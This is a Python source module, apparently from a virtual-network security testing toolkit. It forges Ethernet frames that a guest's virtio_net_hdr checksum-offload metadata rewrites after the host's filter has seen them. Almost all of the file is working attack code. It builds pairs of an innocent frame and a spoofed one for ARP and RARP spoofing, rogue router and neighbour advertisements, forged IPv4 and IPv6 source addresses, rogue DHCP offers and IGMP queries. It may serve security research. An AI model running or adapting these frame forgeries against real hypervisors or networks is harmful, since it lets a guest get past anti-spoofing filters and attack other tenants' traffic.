# SPDX-License-Identifier: BSD-2-Clause
"""Frames that are to be something else once the node has finished their checksum: what a guest says beside a frame
(struct virtio_net_hdr, VIRTIO 1.2, 5.1.6) decides where 16 bits of its choice are written."""

from __future__ import annotations

import struct
from collections.abc import Callable

from .attacks import JUNK, Cast
from .forging import (
    BROADCAST,
    DESTINATION,
    ICMP6,
    IGMP,
    OPTIONS,
    UDP,
    Extension,
    advertisement,
    ether,
    group_mac,
    icmp6,
    ip4,
    ip6,
    source_mac,
    target_mac,
    udp,
)

NEEDS_CSUM, TCPV4, TCPV6 = 1, 1, 4
UNKNOWN = b"\0\x1e\4" + bytes(4)
"""An option for experiments (RFC 4727), which a receiver skips. Linux looks into the padding of options."""
LONG = JUNK * 2
"""What a packet carries that has its two free bytes where nobody looks for an attack."""


def beside(start: int, offset: int, *, gso: int = 0, headers: int = 0, size: int = 0) -> bytes:
    """What is said beside a frame: its checksum begins at START, and the sum goes OFFSET bytes behind that."""
    return struct.pack("<BBHHHH", NEEDS_CSUM, gso, headers, size, start, offset)


def _total(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def hidden(shown: bytes, meant: bytes, start: int | None = None, pad: int | None = None) -> tuple[bytes, bytes]:
    """The frame SHOWN, which is MEANT but for 16 bits, and what is said beside it so that it becomes that. The sum
    comes out right by two free bytes, at PAD: by default in IPv6's destination options, at the end of an IPv4 packet,
    or behind the end. A bridge may cut off what is behind an IP packet."""
    at = next(place for place, (one, other) in enumerate(zip(shown, meant, strict=True)) if one != other)
    start = at & ~1 if start is None else start
    if pad is None:
        free = {(b"\x86\xdd", DESTINATION): 60, (b"\x08\0", shown[20]): len(shown) - 2}
        pad = free.get((shown[12:14], shown[20]))
    start = start if pad is None else min(start, pad)
    at -= (at - start) % 2
    assert shown[:at] + meant[at : at + 2] + shown[at + 2 :] == meant
    frame = bytearray(shown if pad is not None else shown + bytes(len(shown) % 2 + 2))
    pad = len(frame) - 2 if pad is None else pad
    frame[pad : pad + 2] = bytes(2)
    wanted = int.from_bytes(meant[at : at + 2], "big")
    frame[pad : pad + 2] = ((0xFFFF - wanted - _total(bytes(frame[start:]))) % 0xFFFF).to_bytes(2, "big")
    assert ~_total(bytes(frame[start:])) & 0xFFFF == wanted
    return bytes(frame), beside(start, at - start)


Pair = Callable[[Cast], tuple[bytes, bytes]]
HIDDEN: dict[str, Pair] = {
    "ARP with the neighbour's address as sender": lambda c: (
        c.arp(1, c.ip, c.gateway),
        c.arp(1, c.other, c.gateway),
    ),
    "ARP with the gateway's address as sender": lambda c: (
        c.arp(2, c.ip, c.other),
        c.arp(2, c.gateway, c.other),
    ),
    "ARP with a foreign sender MAC": lambda c: (
        c.arp(2, c.ip, c.gateway),
        c.arp(2, c.ip, c.gateway, mac=c.other_mac),
    ),
    "RARP for the neighbour's MAC": lambda c: (
        ether(c.mac, BROADCAST, 0x8035, c.arp(3, "0.0.0.0", "0.0.0.0")[14:]),
        ether(c.mac, BROADCAST, 0x8035, c.arp(3, "0.0.0.0", "0.0.0.0", mac=c.other_mac)[14:]),
    ),
    "a router advertisement": lambda c: _messages(
        c,
        (128, struct.pack("!BBHII", 64, 0, 1800, 0, 0) + source_mac(c.mac)),
        (134, struct.pack("!BBHII", 64, 0, 1800, 0, 0) + source_mac(c.mac)),
        (DESTINATION, UNKNOWN),
    ),
    "an advertisement of the neighbour's address": lambda c: _messages(
        c,
        (136, advertisement(c.ip6, target_mac(c.mac))),
        (136, advertisement(c.other6, target_mac(c.mac))),
    ),
    "an advertisement of its own address with a foreign MAC": lambda c: _messages(
        c,
        (136, advertisement(c.ip6, target_mac(c.mac))),
        (136, advertisement(c.ip6, target_mac(c.other_mac))),
    ),
    "an IPv6 source address": lambda c: (_ipv6(c, c.ip6), _ipv6(c, c.other6)),
    "an IPv4 source address": lambda c: (_ipv4(c, c.ip), _ipv4(c, c.other)),
    "a DHCP server's offer": lambda c: (_offer(c, 4000), _offer(c, 68)),
    "an IGMP query": lambda c: (_igmp(c, 0x16), _igmp(c, 0x11)),
}
"""What is shown to the filter and what is meant, two frames that differ in 16 bits only."""


def _messages(
    c: Cast, shown: tuple[int, bytes], meant: tuple[int, bytes], *extensions: Extension
) -> tuple[bytes, bytes]:
    """Two ICMPv6 messages, of a type and a rest. Both have the checksum of the one that is meant: its receiver checks it."""
    said = icmp6(c.link_local, "ff02::1", *meant)
    frames = (
        ether(c.mac, group_mac("ff02::1"), 0x86DD, ip6(c.link_local, "ff02::1", ICMP6, message, *extensions))
        for message in (bytes([shown[0]]) + said[1:4] + shown[1], said)
    )
    return next(frames), next(frames)


def _ipv6(c: Cast, source: str) -> bytes:
    datagram = udp(c.other6, c.gateway6, 4000, 4001, JUNK)
    return ether(c.mac, c.to, 0x86DD, ip6(source, c.gateway6, UDP, datagram, (DESTINATION, OPTIONS)))


def _ipv4(c: Cast, source: str) -> bytes:
    packet = ip4(c.other, c.gateway, UDP, udp(c.other, c.gateway, 4000, 4001, LONG))
    return ether(c.mac, c.to, 0x0800, packet[:12] + ip4(source, c.gateway, UDP, b"")[12:20] + packet[20:])


def _offer(c: Cast, port: int) -> bytes:
    datagram = struct.pack("!HHHH", 67, port, 8 + len(LONG), 0) + LONG
    return ether(c.mac, BROADCAST, 0x0800, ip4(c.ip, "255.255.255.255", UDP, datagram))


def _igmp(c: Cast, kind: int) -> bytes:
    report = bytes([kind, 0, 0xDD, 0xFF, 224, 0, 0, 5]) + bytes(64)
    return ether(c.mac, "01:00:5e:00:00:01", 0x0800, ip4(c.ip, "224.0.0.1", IGMP, report))
